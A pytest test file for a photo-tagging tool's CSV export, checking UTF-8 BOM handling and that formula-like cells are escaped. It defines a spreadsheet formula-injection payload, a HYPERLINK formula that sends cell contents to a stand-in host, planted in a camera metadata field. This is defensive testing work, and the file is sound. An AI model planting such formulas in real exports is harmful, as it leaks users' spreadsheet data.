"""export --format csv is for spreadsheets: a file opens in Excel with its accents right (UTF-8 with a
BOM), and no cell a person, the model or a file's EXIF wrote runs as a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from autotagger.catalog import Catalog
from autotagger.types import Tag, TagResult
from tests.cli.helpers import no_settings, run

EVIL_CAMERA = '=HYPERLINK("http://x.example/?"&A1,"Canon")'


@pytest.fixture
def catalog(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    no_settings(tmp_path, monkeypatch)
    path = tmp_path / "cat.sqlite3"
    with Catalog(path) as cat:
        cat.record_result(TagResult("/p/église.jpg", "Église Saint-Étienne at dusk", tags=(Tag("place|Église", 0.9),),
                                    model_id="test/model"), camera=EVIL_CAMERA)
        cat.record_result(TagResult("/p/b.jpg", "+1 for the sunset", tags=(Tag("@home", None),),
                                    model_id="test/model"))
    return path


def test_a_csv_file_has_a_bom_and_reads_back_whole(catalog: Path, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    dest = tmp_path / "photos.csv"
    code, out, err = run(capsys, "--catalog", str(catalog), "export", "-o", str(dest))
    assert code == 0 and out == "" and err == ""
    raw = dest.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with it
    rows = {r["path"]: r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    assert rows["/p/église.jpg"]["caption"] == "Église Saint-Étienne at dusk"
    assert rows["/p/église.jpg"]["tags"] == "place|Église"


def test_no_cell_runs_as_a_formula(catalog: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "--catalog", str(catalog), "export")
    assert code == 0 and not out.startswith("\ufeff")  # stdout goes to scripts: no BOM
    rows = {r["path"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["/p/église.jpg"]["camera"] == "'" + EVIL_CAMERA
    assert rows["/p/b.jpg"]["caption"] == "'+1 for the sunset" and rows["/p/b.jpg"]["tags"] == "'@home"
    assert rows["/p/église.jpg"]["caption"] == "Église Saint-Étienne at dusk"  # plain text stays as it is
    code, out, _ = run(capsys, "--catalog", str(catalog), "export", "--format", "jsonl")
    data = {d["path"]: d for d in map(json.loads, out.splitlines())}
    assert data["/p/église.jpg"]["camera"] == EVIL_CAMERA  # JSON is data, not a sheet: unchanged
